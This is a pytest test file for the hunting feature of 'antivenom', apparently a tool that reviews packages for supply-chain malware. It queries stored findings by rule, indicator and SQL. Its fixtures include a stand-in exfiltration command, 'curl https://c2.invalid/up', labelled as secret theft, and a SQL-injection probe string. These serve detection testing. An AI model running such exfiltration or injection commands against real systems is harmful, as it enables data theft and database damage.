"""What a hunt finds in a lake, and what it says of it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from antivenom.cli import main
from antivenom.errors import RuleError, UsageError
from antivenom.lab import hunting
from antivenom.lab.hunting import Where
from antivenom.lab.lake import Lake
from antivenom.rules import book
from tests.lab.lakes import reviewed
from tests.rules.made import fact, rule

THEFT = "secrets.env->net.send"


@pytest.fixture
def lake(tmp_path: Path) -> Lake:
    place = Lake(str(tmp_path / "lake"))
    place.append(
        [
            reviewed("a", fact(THEFT, line=3, host="c2.invalid", value="https://c2.invalid/up?x")),
            reviewed("b", fact("net.send", scope="f"), fact("secrets.env", scope="g")),
            reviewed("c", fact("net.send", scope="f"), fact("secrets.env", scope="f")),
            reviewed("d", fact(THEFT, value="curl https://c2.invalid/up"), ecosystem="npm"),
            reviewed("e", fact("text.wallet", value="0xAbC"), reviewed="2026-10-01T00:00:00+00:00"),
        ]
    )
    return place


def names(found: hunting.Found) -> str:
    return "".join(sorted(hit.name for hit in found.hits))


def test_a_rule_finds_reviews_with_reason_and_place(lake: Lake) -> None:
    found = hunting.by_rule(lake, rule("secrets.env -> net.send", template="{member} sends."))
    assert (names(found), found.total, found.asked) == ("ad", 2, 5)
    hit = next(hit for hit in found.hits if hit.name == "a")
    assert hit.reason == "setup.py sends"
    assert [(one.member, one.line) for one in hit.facts] == [("setup.py", 3)]


def test_a_join_is_one_in_history_too(lake: Lake) -> None:
    found = hunting.by_rule(lake, hunting.ad_hoc("(net.send and secrets.env) in same function"))
    assert names(found) == "c"
    assert len(found.hits[0].facts) == 2


def test_a_rule_of_one_registry_asks_no_other(lake: Lake) -> None:
    found = hunting.by_rule(lake, rule("secrets.env -> net.send", ecosystems=("npm",)))
    assert (names(found), found.asked) == ("d", 1)


def test_only_the_months_and_the_registry_asked_for(lake: Lake) -> None:
    wanted = hunting.ad_hoc("text.wallet or secrets.env -> net.send")
    assert names(hunting.by_rule(lake, wanted, Where(since="2026-11"))) == "ad"
    assert names(hunting.by_rule(lake, wanted, Where(until="2026-10"))) == "e"
    assert names(hunting.by_rule(lake, wanted, Where(ecosystem="npm"))) == "d"


@pytest.mark.parametrize(
    ("text", "wanted"),
    [
        ("c2.invalid", "a"),
        ("C2.INVALID", "a"),
        ("https://c2.invalid/up", "a"),
        ("https://user@c2.invalid:443/", ""),
        ("https://other.invalid/up", ""),
        ("*c2.invalid*", "ad"),
        ("0xAbC", "e"),
        ("0xabc", ""),
        ("a" * 64, "a"),
        ("A" * 64, "a"),
        ("f" * 64, ""),
        ("it's'); DROP VIEW facts; --", ""),
    ],
)
def test_an_indicator(lake: Lake, text: str, wanted: str) -> None:
    found = hunting.by_indicator(lake, text)
    assert names(found) == wanted
    assert found.total == len(wanted)


def test_an_indicator_of_nothing_is_refused(lake: Lake) -> None:
    with pytest.raises(UsageError):
        hunting.by_indicator(lake, " ** ")


def test_an_artifact_reviewed_by_two_engines_is_shown_once(lake: Lake) -> None:
    later = {"engine": "e2", "reviewed": "2026-12-01T00:00:00+00:00"}
    lake.append([reviewed("a", fact(THEFT), **later)])
    found = hunting.by_rule(lake, hunting.ad_hoc("secrets.env -> net.send"))
    assert found.total == 3
    assert [(hit.name, hit.engine) for hit in found.hits] == [("a", "e2"), ("d", "e1")]


def test_at_most_as_many_as_asked_for(lake: Lake) -> None:
    found = hunting.by_rule(lake, hunting.ad_hoc("secrets.env -> net.send"), most=1)
    assert (len(found.hits), found.total) == (1, 2)


def test_a_page_on_disk_and_one_that_is_not(tmp_path: Path) -> None:
    page = next(iter(book.page_paths()))
    assert hunting.named(str(page)) == hunting.named(f"{page.parent.name}/{page.stem}")
    with pytest.raises(RuleError):
        hunting.named(str(tmp_path / "none.md"))


def run(*arguments: str) -> int:
    return main(["hunt", *arguments])


def test_the_command(lake: Lake, capsys: pytest.CaptureFixture[str]) -> None:
    place = f"--lake={lake.url}"
    assert run(place, "--indicator", "c2.invalid") == 0
    said = capsys.readouterr()
    assert "a-1.tar.gz" in said.out
    assert "setup.py:3  secrets.env->net.send at build  https://c2.invalid/up?x" in said.out
    assert "1 of 5 reviews fit" in said.err
    assert run(place, "--match", "secrets.env -> net.send", "--format=jsonl") == 0
    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
    assert {line["name"] for line in lines} == {"a", "d"}
    assert run(place, "--indicator", "nobody.invalid") == 1
    assert run(place, "--sql", "SELECT name FROM reviews ORDER BY name", "--limit", "1") == 0
    said = capsys.readouterr()
    assert said.out == "name\na\n"
    assert "5 rows" in said.err


def test_what_is_wrong_is_said(lake: Lake, capsys: pytest.CaptureFixture[str]) -> None:
    place = f"--lake={lake.url}"
    assert run(place, "--match", "secrets.envv") == 2
    assert "unknown id 'secrets.envv'" in capsys.readouterr().err
    assert run(place, "--sql", "DELETE FROM facts") == 2
    assert "one SELECT" in capsys.readouterr().err
    assert run(place, "no/rule") == 2
    assert run("--indicator", "x") == 2
    assert "no lake was named" in capsys.readouterr().err
